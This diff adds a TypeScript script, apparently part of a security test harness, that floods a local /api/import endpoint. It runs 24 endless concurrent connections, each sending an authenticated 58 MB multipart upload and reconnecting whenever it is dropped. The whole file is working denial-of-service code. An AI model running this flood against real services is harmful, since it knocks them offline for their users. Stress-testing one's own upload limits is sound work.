@@ -1,0 +1,54 @@
+import { once } from 'node:events';
+import { connect } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
+import { attack } from './underWay.ts';
+
+const senders = 24;
+const bytes = 58 * 1024 * 1024;
+const piece = Buffer.alloc(256 * 1024, 'a');
+
+interface Order {
+  readonly url: string;
+  readonly token: string;
+}
+
+/** Sends lists of 58 MB on many connections at once, and begins again wherever one is hung up on. */
+await attack<Order>(async (order, count) => {
+  const send = async () => {
+    for (;;) {
+      const status = await upload(order).catch(() => null);
+      count(status ? `answered ${status}` : 'cut off');
+      await wait(20);
+    }
+  };
+  await Promise.all(Array.from({ length: senders }, send));
+});
+
+/** Goes on sending until it is done or hung up on; answers what it was told. */
+async function upload({ url, token }: Order): Promise<string | null> {
+  const { port } = new URL(url);
+  const socket = connect(Number(port), '127.0.0.1');
+  let told: string | null = null;
+  socket.on('data', (answer) => {
+    told ??= answer.toString('latin1').slice(9, 12);
+  });
+  socket.on('error', () => undefined);
+  const closed = once(socket, 'close');
+  socket.write(
+    [
+      'POST /api/import HTTP/1.1',
+      'Host: localhost',
+      `Authorization: Bearer ${token}`,
+      'Content-Type: multipart/form-data; boundary=x',
+      `Content-Length: ${bytes}`,
+      '',
+      '--x\r\ncontent-disposition: form-data; name="file"; filename="l.csv"\r\n\r\n',
+    ].join('\r\n'),
+  );
+  for (let sent = 0; sent < bytes && !socket.destroyed; sent += piece.length) {
+    if (!socket.write(piece)) await Promise.race([once(socket, 'drain'), closed]);
+  }
+  await Promise.race([closed, wait(2000)]);
+  socket.destroy();
+  return told;
+}
